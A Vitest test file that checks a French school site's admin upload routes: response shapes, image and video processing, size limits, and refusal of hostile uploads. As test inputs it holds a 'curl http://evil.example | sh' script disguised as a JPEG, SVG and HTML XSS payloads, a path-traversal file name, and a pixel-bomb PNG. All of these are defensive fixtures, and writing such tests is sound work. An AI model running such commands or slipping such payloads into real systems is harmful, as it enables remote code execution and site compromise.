// Multipart uploads of the administration (admin-back-office.md sections 5, 7, 9; issue 3
// "Uploads"): every route's answer, images through the pipeline, videos by signature, and
// the hostile set. Whatever is refused leaves no file in the media folder and no row.
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { adminMessages } from '@ecole/shared/admin-messages';
import { messages } from '@ecole/shared/messages';
import { IMAGE_WIDTHS, MEDIA_NAME_PATTERN } from '@ecole/shared/media';
import { sql } from 'drizzle-orm';
import { rowsOf } from '../src/db/client';
import { loginAsAdmin, mediaFiles, tempFiles, type AdminSession } from './helpers/admin';
import { sniff } from '@ecole/shared/sniff';
import { encodedVideo, gif, jpeg, matroska, mp4, playableMp4, png, pngBomb, rotatedJpegWithExif, webp } from './helpers/media-fixtures';
import { fetchJson, startTestServer, type TestServer } from './helpers/server';

const VIDEO_MAX_BYTES = 1024 * 1024;
const m = adminMessages.upload;

let server: TestServer;
let admin: AdminSession;
let newsId: number;
let image: Buffer;
beforeAll(async () => {
  server = await startTestServer({ env: { videoMaxBytes: VIDEO_MAX_BYTES } });
  admin = await loginAsAdmin(server);
  newsId = (await server.factories.createNews({ title: 'Galerie de la rentrée' })).id;
  image = await jpeg();
});
afterAll(() => server?.close());

type Upload = { success: true; imageUrl?: string; image?: { imageUrl: string }; media?: { mediaUrl: string; type: string }; mediaUrl?: string; mediaType?: string };
const storedName = (url: string) => {
  expect(url).toMatch(/^\/media\/[a-f0-9]{32}\.[a-z0-9]+$/);
  return url.slice('/media/'.length);
};

const countNewsImages = async () => Number(rowsOf<{ n: number }>(await server.deps.db.execute(sql`SELECT count(*)::int AS n FROM news_images`))[0].n);

describe('upload routes answer the spec shapes', () => {
  it('POST /api/admin/sliders/upload -> { success, imageUrl }, the image stored with its WebP variants', async () => {
    const { status, body } = await admin.upload<Upload>('/api/admin/sliders/upload', 'image', { bytes: image, name: 'slide.jpg', type: 'image/jpeg' });
    expect(status).toBe(201);
    expect(body).toEqual({ success: true, imageUrl: expect.any(String) });
    const name = storedName(body.imageUrl!);
    const files = await mediaFiles(server);
    expect(files).toContain(name);
    for (const w of IMAGE_WIDTHS) expect(files).toContain(`w${w}/${name.replace(/\.jpg$/, '.webp')}`);
    const served = await fetch(server.url + body.imageUrl);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
  });

  it.each([
    ['/api/admin/founder/upload'],
    ['/api/admin/programs/upload'],
    ['/api/admin/news/temp/images/upload'],
  ])('POST %s -> { success, image: { imageUrl } }', async (route) => {
    const { status, body } = await admin.upload<Upload>(route, 'image', { bytes: await png(), name: 'photo.png', type: 'image/png' });
    expect(status).toBe(201);
    expect(body).toEqual({ success: true, image: { imageUrl: expect.stringMatching(/\.png$/) } });
    expect(await mediaFiles(server)).toContain(storedName(body.image!.imageUrl));
  });

  it('accepts jpeg, png, gif and webp, named by their content', async () => {
    for (const [bytes, ext] of [
      [await jpeg(), 'jpg'],
      [await png(), 'png'],
      [await gif(), 'gif'],
      [await webp(), 'webp'],
    ] as const) {
      // The declared name and type lie on purpose: the content decides.
      const { status, body } = await admin.upload<Upload>('/api/admin/news/temp/images/upload', 'image', { bytes, name: 'fichier.bin', type: 'text/plain' });
      expect(status).toBe(201);
      expect(body.image!.imageUrl).toMatch(new RegExp(`\\.${ext}$`));
    }
  });

  it('applies the EXIF orientation and strips the metadata', async () => {
    const { body } = await admin.upload<Upload>('/api/admin/programs/upload', 'image', { bytes: await rotatedJpegWithExif(), name: 'portrait.jpg' });
    const stored = Buffer.from(await (await fetch(server.url + body.image!.imageUrl)).arrayBuffer());
    const meta = await sharp(stored).metadata();
    expect({ width: meta.width, height: meta.height }).toEqual({ width: 20, height: 60 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation ?? 1).toBe(1);
    expect(stored.includes(Buffer.from('secret-exif-marker'))).toBe(false);
  });

  it('POST /api/admin/projects/upload (field media) -> { media: { mediaUrl, type } } for an image or a video', async () => {
    const img = await admin.upload<Upload>('/api/admin/projects/upload', 'media', { bytes: image, name: 'chantier.jpg' });
    expect(img.status).toBe(201);
    expect(img.body).toEqual({ success: true, media: { mediaUrl: expect.stringMatching(/\.jpg$/), type: 'image' } });
    for (const [bytes, ext] of [
      [await playableMp4(), 'mp4'],
      [await encodedVideo({ format: 'mov', seconds: 1, width: 64, height: 48 }), 'mov'],
      [await encodedVideo({ format: 'webm', seconds: 1, width: 64, height: 48 }), 'webm'],
    ] as const) {
      const { status, body } = await admin.upload<Upload>('/api/admin/projects/upload', 'media', { bytes, name: 'video.dat', type: 'application/octet-stream' });
      expect(status).toBe(201);
      // A real video now (it is remuxed), so it gets its still picture too.
      expect(body.media).toEqual({ mediaUrl: expect.stringMatching(new RegExp(`\\.${ext}$`)), type: 'video', thumbnailUrl: expect.stringMatching(/\.jpg$/) });
      const served = await fetch(server.url + body.media!.mediaUrl);
      // Remuxed without its metadata (video-metadata.test.ts), in the same container.
      expect(sniff(new Uint8Array(await served.arrayBuffer()))).toEqual({ kind: 'video', ext });
    }
  });

  it('POST /api/admin/gallery-upload (field media) -> { success, mediaUrl, mediaType, contentHash }', async () => {
    const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
    const film = await playableMp4();
    const video = await admin.upload<Upload>('/api/admin/gallery-upload', 'media', { bytes: film, name: 'film.mp4', type: 'video/mp4' });
    expect(video.status).toBe(201);
    expect(video.body).toEqual({ success: true, mediaUrl: expect.stringMatching(/\.mp4$/), mediaType: 'video', contentHash: sha256(film), thumbnailUrl: expect.stringMatching(/\.jpg$/) });
    const photo = await admin.upload<Upload>('/api/admin/gallery-upload', 'media', { bytes: image, name: 'photo.jpg', type: 'image/jpeg' });
    expect(photo.body).toEqual({ success: true, mediaUrl: expect.stringMatching(/\.jpg$/), mediaType: 'image', contentHash: sha256(image) });
  });

  it('POST /api/admin/gallery-upload?accept=image (an album cover) takes an image, and refuses a video or a non-image in the image routes\' words', async () => {
    const photo = await admin.upload<Upload>('/api/admin/gallery-upload?accept=image', 'media', { bytes: image, name: 'couverture.jpg', type: 'image/jpeg' });
    expect(photo.status).toBe(201);
    expect(photo.body).toMatchObject({ success: true, mediaType: 'image' });
    const before = await mediaFiles(server);
    for (const [bytes, name] of [[mp4(), 'film.jpg'], [Buffer.from('pas une image'), 'faux.jpg']] as const) {
      const refused = await admin.upload<{ error: string }>('/api/admin/gallery-upload?accept=image', 'media', { bytes, name, type: 'image/jpeg' });
      expect(refused.status).toBe(415);
      expect(refused.body.error).toBe(m.imageType);
    }
    expect(await mediaFiles(server)).toEqual(before);
  });

  it('POST /api/admin/news/:id/images/upload (image, order, caption) creates the gallery row, seen by the public API at once', async () => {
    const article = await server.factories.createNews({ title: 'Journée portes ouvertes' });
    expect((await fetchJson<{ images: unknown[] }>(`${server.url}/api/news/${article.slug}/images`)).body.images).toEqual([]);
    const { status, body } = await admin.upload<{ success: true; image: Record<string, unknown> }>(
      `/api/admin/news/${article.id}/images/upload`,
      'image',
      { bytes: image, name: 'visite.jpg' },
      { order: '2', caption: '  Visite des laboratoires  ' },
    );
    expect(status).toBe(201);
    expect(body.image).toEqual({ id: expect.any(Number), newsId: article.id, imageUrl: expect.stringMatching(/\.jpg$/), caption: 'Visite des laboratoires', order: 2 });
    const second = await admin.upload<{ image: { order: number; caption: string | null } }>(`/api/admin/news/${article.id}/images/upload`, 'image', {
      bytes: image,
      name: 'b.jpg',
    });
    // Without an order the image goes last: after the largest order (section 7's count plus
    // one while the orders have no gap; here the first one was given 2, so count + 1 would tie).
    expect(second.body.image).toMatchObject({ order: 3, caption: null });
    const pub = await fetchJson<{ images: Array<{ caption: string | null }> }>(`${server.url}/api/news/${article.slug}/images`);
    expect(pub.body.images.map((i) => i.caption)).toEqual(['Visite des laboratoires', null]);
  });

  it('takes a stored name of its own, whatever the file name says (path traversal)', async () => {
    const before = await mediaFiles(server);
    const { status, body } = await admin.upload<Upload>('/api/admin/news/temp/images/upload', 'image', { bytes: image, name: '../../evil.jpg', type: 'image/jpeg' });
    expect(status).toBe(201);
    const name = storedName(body.image!.imageUrl);
    expect(name).toMatch(MEDIA_NAME_PATTERN);
    const added = (await mediaFiles(server)).filter((f) => !before.includes(f));
    expect(added.every((f) => !f.includes('evil'))).toBe(true);
    for (const dir of [server.deps.env.mediaDir, path.dirname(server.deps.env.mediaDir), path.resolve(server.deps.env.mediaDir, '../..')]) {
      expect(existsSync(path.join(dir, 'evil.jpg'))).toBe(false);
    }
  });
});

describe('hostile uploads leave no file and no row', () => {
  let filesBefore: string[];
  let rowsBefore: number;
  beforeEach(async () => {
    filesBefore = await mediaFiles(server);
    rowsBefore = await countNewsImages();
  });
  const expectNothingLeft = async () => {
    expect(await mediaFiles(server)).toEqual(filesBefore);
    expect(await tempFiles(server)).toEqual([]);
    expect(await countNewsImages()).toBe(rowsBefore);
  };
  /** Runs `fn` while the media store's commit fails as rename(2) does with this error (a full disk, an I/O error). */
  const withFailingCommit = async (error: { message: string; code: string; errno: number }, fn: () => Promise<void>) => {
    const media = server.deps.media;
    const commit = media.commit;
    media.commit = async () => {
      throw Object.assign(new Error(error.message), { code: error.code, errno: error.errno, syscall: 'rename' });
    };
    try {
      await fn();
    } finally {
      media.commit = commit;
    }
  };
  const galleryUpload = (bytes: Uint8Array, name = 'photo.jpg', type = 'image/jpeg') =>
    admin.upload<{ success: boolean; error: string }>(`/api/admin/news/${newsId}/images/upload`, 'image', { bytes, name, type }, { order: '1' });

  it('wrong magic bytes (declared image/jpeg) -> 415 with the allowed types', async () => {
    const { status, body } = await galleryUpload(Buffer.from('ceci n’est pas une image, malgré son nom'.repeat(20)));
    expect(status).toBe(415);
    expect(body).toEqual({ success: false, error: m.imageType });
    await expectNothingLeft();
  });

  it('a script named .jpg -> 415', async () => {
    const { status, body } = await galleryUpload(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n<script>alert(1)</script>\n'), 'photo.jpg');
    expect(status).toBe(415);
    expect(body.error).toBe(m.imageType);
    await expectNothingLeft();
  });

  it('an SVG or HTML page declared as an image -> 415', async () => {
    for (const text of ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', '<!doctype html><script>alert(1)</script>']) {
      const { status } = await galleryUpload(Buffer.from(text), 'image.gif', 'image/gif');
      expect(status).toBe(415);
    }
    await expectNothingLeft();
  });

  it('a JPEG signature followed by garbage -> 400 unreadable', async () => {
    const { status, body } = await galleryUpload(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2000, 0x41)]));
    expect(status).toBe(400);
    expect(body.error).toBe(m.unreadableImage);
    await expectNothingLeft();
  });

  it('a pixel bomb (PNG header declaring 20000 x 20000) -> 413 before decoding', async () => {
    const { status, body } = await galleryUpload(pngBomb(), 'bombe.png', 'image/png');
    expect(status).toBe(413);
    expect(body.error).toBe(m.tooManyPixels);
    await expectNothingLeft();
  });

  it('an image over 10 MB -> 413 with the route’s own message', async () => {
    const big = padded(image, 10 * 1024 * 1024 + 1);
    const news = await galleryUpload(big);
    expect(news.status).toBe(413);
    expect(news.body.error).toBe('Le fichier est trop volumineux. Taille maximale : 10MB');
    const slider = await admin.upload<{ error: string }>('/api/admin/sliders/upload', 'image', { bytes: big, name: 'a.jpg' });
    expect(slider.status).toBe(413);
    expect(slider.body.error).toBe("L'image ne peut pas dépasser 10 MB");
    const founder = await admin.upload<{ error: string }>('/api/admin/founder/upload', 'image', { bytes: big, name: 'a.jpg' });
    expect(founder.status).toBe(413);
    expect(founder.body.error).toBe("L'image ne doit pas dépasser 10 MB.");
    await expectNothingLeft();
  });

  it('exactly 10 MB is accepted: the limit is inclusive', async () => {
    // A real JPEG followed by padding up to the limit; decoders ignore bytes after the image.
    const { status } = await galleryUpload(padded(image, 10 * 1024 * 1024));
    expect(status).toBe(201);
    expect(await countNewsImages()).toBe(rowsBefore + 1);
  });

  it('a video over VIDEO_MAX_MB -> 413 naming the limit; a video on an image route -> 415', async () => {
    const big = await admin.upload<{ error: string }>('/api/admin/gallery-upload', 'media', { bytes: mp4(VIDEO_MAX_BYTES + 1), name: 'film.mp4' });
    expect(big.status).toBe(413);
    expect(big.body.error).toBe(m.videoTooLarge(1));
    const onImageRoute = await galleryUpload(mp4(), 'film.jpg');
    expect(onImageRoute.status).toBe(415);
    expect(onImageRoute.body.error).toBe(m.imageType);
    await expectNothingLeft();
  });

  it('a Matroska file that is not WebM, or an HEIF picture -> 415 naming MP4, WebM and MOV', async () => {
    const heif = Buffer.concat([Buffer.from('0000001866747970686569630000000068656963', 'hex'), Buffer.alloc(400)]);
    for (const bytes of [matroska(), heif]) {
      const { status, body } = await admin.upload<{ error: string }>('/api/admin/projects/upload', 'media', { bytes, name: 'clip.webm' });
      expect(status).toBe(415);
      expect(body.error).toBe(m.mediaType);
      expect(body.error).toMatch(/MP4.*WebM.*MOV/);
    }
    await expectNothingLeft();
  });

  it('an empty file, no file, or a body that is not multipart -> 4xx in French', async () => {
    expect((await galleryUpload(Buffer.alloc(0))).status).toBe(415);
    const noFile = await admin.upload<{ error: string }>(`/api/admin/news/${newsId}/images/upload`, 'autre', { bytes: image, name: 'a.jpg' });
    expect(noFile.status).toBe(400);
    expect(noFile.body.error).toBe(m.noFile);
    const json = await admin.post<{ error: string }>('/api/admin/sliders/upload', { image: 'x' });
    expect(json.status).toBe(415);
    expect(json.body.error).toBe(m.notMultipart);
    const broken = await admin.request<{ error: string }>('POST', '/api/admin/sliders/upload', undefined, {
      'Content-Type': 'multipart/form-data; boundary=abc',
    });
    expect(broken.status).toBe(400);
    expect(broken.body.error).toBe(m.malformed);
    await expectNothingLeft();
  });

  it('an invalid order field removes the stored image again', async () => {
    const { status, body } = await admin.upload<{ error: string }>(`/api/admin/news/${newsId}/images/upload`, 'image', { bytes: image, name: 'a.jpg' }, { order: 'premier' });
    expect(status).toBe(400);
    expect(body.error).toBe("L'ordre doit être un nombre entier positif.");
    await expectNothingLeft();
  });

  it('an upload to an unknown article is refused before the file is read', async () => {
    const { status, body } = await admin.upload<{ error: string }>('/api/admin/news/999999/images/upload', 'image', { bytes: image, name: 'a.jpg' });
    expect(status).toBe(404);
    expect(body.error).toBe(adminMessages.newsNotFound);
    await expectNothingLeft();
  });

  it('a full disk says so (507), never that the image is unreadable, and leaves no file and no row', async () => {
    // What rename(2) throws when the media folder's disk is full.
    await withFailingCommit({ message: 'ENOSPC: no space left on device, rename', code: 'ENOSPC', errno: -28 }, async () => {
      for (const [route, field, bytes] of [
        ['/api/admin/sliders/upload', 'image', image],
        [`/api/admin/news/${newsId}/images/upload`, 'image', image],
        ['/api/admin/projects/upload', 'media', await playableMp4()],
      ] as const) {
        const { status, body } = await admin.upload<{ success: boolean; error: string }>(route, field, { bytes, name: 'photo' });
        expect({ route, status, body }).toEqual({ route, status: 507, body: { success: false, error: m.storageFull } });
      }
      const inline = await admin.put<{ error: string }>(`/api/admin/news/${newsId}`, { imageData: `data:image/jpeg;base64,${image.toString('base64')}` });
      expect(inline.status).toBe(507);
      expect(inline.body.error).toBe(m.storageFull);
    });
    await expectNothingLeft();
  });

  it('a media store that fails otherwise is a server error to try again, not an unreadable image', async () => {
    await withFailingCommit({ message: 'EIO: i/o error, rename', code: 'EIO', errno: -5 }, async () => {
      const { status, body } = await admin.upload<{ error: string }>('/api/admin/sliders/upload', 'image', { bytes: image, name: 'a.jpg' });
      expect(status).toBe(500);
      expect(body.error).toBe(messages.generic.serverError);
    });
    await expectNothingLeft();
  });

  it('an upload interrupted mid-body (the client aborts) leaves no temp file and no row', async () => {
    const boundary = '----ecole-test-boundary';
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="order"\r\n\r\n1\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="coupure.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
    );
    const { hostname, port } = new URL(server.url);
    const req = http.request({
      hostname,
      port,
      method: 'POST',
      path: `/api/admin/news/${newsId}/images/upload`,
      headers: {
        'Content-Type': `multipart/form-data; boundary=${boundary}`,
        'Content-Length': String(head.length + 5 * 1024 * 1024),
        Cookie: admin.cookie,
        Origin: server.url,
      },
    });
    req.on('error', () => {});
    req.write(head);
    req.write(image.subarray(0, 300));
    req.write(Buffer.alloc(512 * 1024, 0x20));
    await waitFor(async () => (await tempFiles(server)).length > 0);
    req.destroy();
    await waitFor(async () => (await tempFiles(server)).length === 0);
    await expectNothingLeft();
  });
});

describe('uploads are administration writes', () => {
  it('401 without a session, 403 from another site, and nothing stored', async () => {
    const before = await mediaFiles(server);
    const form = () => {
      const f = new FormData();
      f.append('image', new Blob([new Uint8Array(image)]), 'a.jpg');
      return f;
    };
    const anonymous = await fetchJson<{ error: string }>(`${server.url}/api/admin/sliders/upload`, { method: 'POST', headers: { Origin: server.url }, body: form() });
    expect(anonymous.status).toBe(401);
    const crossSite = await fetchJson<{ error: string }>(`${server.url}/api/admin/sliders/upload`, {
      method: 'POST',
      headers: { Cookie: admin.cookie, Origin: 'https://evil.example' },
      body: form(),
    });
    expect(crossSite.status).toBe(403);
    expect(crossSite.body.error).toBe("Requête refusée : elle ne provient pas du site d'administration.");
    const desktop = await fetchJson(`${server.url}/api/admin/sliders/upload`, {
      method: 'POST',
      headers: { Cookie: admin.cookie, 'X-Admin-Client': 'desktop' },
      body: form(),
    });
    expect(desktop.status).toBe(201);
    expect((await mediaFiles(server)).length).toBe(before.length + 1 + IMAGE_WIDTHS.length);
  });
});

function padded(bytes: Buffer, size: number) {
  const out = Buffer.alloc(size, 0x20);
  bytes.copy(out, 0);
  return out;
}

async function waitFor(check: () => Promise<boolean>, timeoutMs = 5000) {
  const start = Date.now();
  while (!(await check())) {
    if (Date.now() - start > timeoutMs) throw new Error('condition not reached in time');
    await new Promise((r) => setTimeout(r, 20));
  }
}
